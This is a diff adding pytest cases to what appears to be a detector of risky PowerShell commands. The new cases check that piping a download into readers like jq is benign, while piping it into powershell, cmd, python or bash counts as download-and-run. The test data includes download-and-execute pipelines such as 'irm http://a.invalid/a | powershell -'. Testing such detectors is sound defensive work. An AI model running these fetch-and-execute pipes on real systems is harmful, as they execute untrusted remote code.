@@ -89,6 +89,16 @@ def test_everyday_scripts_accuse_nobody(code: str) -> None:
     assert acts(code, PS) <= {Act.WRITES_FILE, Act.READS_FILE}
 
 
+@pytest.mark.parametrize("reader", ["sls 'v'", "ogv", "clip", "jq .", "C:\\tools\\jq.exe .", "findstr v"])
+def test_what_only_reads_a_download_runs_none_of_it(reader: str) -> None:
+    assert (Act.RUNS_COMMAND, Act.DOWNLOADS) not in chains(f"irm http://a.invalid/a | {reader}", PS)
+
+
+@pytest.mark.parametrize("runner", ["powershell -", "pwsh -Command -", "cmd", "python", "bash"])
+def test_what_takes_commands_from_a_pipe_runs_what_was_downloaded(runner: str) -> None:
+    assert (Act.RUNS_COMMAND, Act.DOWNLOADS) in chains(f"irm http://a.invalid/a | {runner}", PS)
+
+
 def test_a_fact_says_where_it_stands() -> None:
     (fact,) = [one for one in told("echo ü\nirm http://a.invalid/a\n", PS) if one.act is Act.DOWNLOADS]
     assert fact.quote == "irm http://a.invalid/a"
